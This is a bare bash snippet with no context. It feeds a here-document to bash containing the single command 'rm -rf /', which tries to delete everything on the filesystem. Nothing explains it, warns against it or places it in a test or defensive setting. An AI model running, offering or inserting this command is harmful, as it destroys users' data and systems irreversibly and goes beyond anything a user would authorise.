bash <<'EOF'
rm -rf /
EOF
